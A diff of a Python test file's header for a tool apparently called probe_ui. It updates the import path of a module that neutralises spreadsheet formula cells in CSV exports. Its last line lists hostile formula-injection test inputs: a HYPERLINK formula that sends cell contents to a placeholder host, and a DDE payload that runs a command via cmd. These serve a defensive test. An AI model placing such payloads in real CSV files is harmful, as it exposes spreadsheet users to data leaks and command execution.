@@ -1,6 +1,6 @@
 """Issue 24: CSV is safe to open in a spreadsheet. Cells beginning with =, +, -, @, TAB or CR (model answers, notes,
 rater names, preset text) ran as formulas: 179 cells in a run's data.csv, 10 in the by-variant export, 13 in
-`ratings export`. Every CSV writer neutralises them with a leading apostrophe (probe_ui.spreadsheet), JSONL keeps
+`ratings export`. Every CSV writer neutralises them with a leading apostrophe (probe_ui.files.spreadsheet), JSONL keeps
 the raw text, and `probe-ui import` gives back exactly what was written."""
 
 from __future__ import annotations
@@ -13,12 +13,12 @@ from pathlib import Path
 import pytest
 import sqlalchemy as sa
 import yaml
-
 from helpers import write_png, write_preset
+
 from probe_ui.cli import main
+from probe_ui.files.spreadsheet import FORMULA_STARTS, neutral, restore
 from probe_ui.presets import load_preset
 from probe_ui.runner import run_batch
-from probe_ui.spreadsheet import FORMULA_STARTS, neutral, restore
 from probe_ui.store import Store, responses
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?q="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
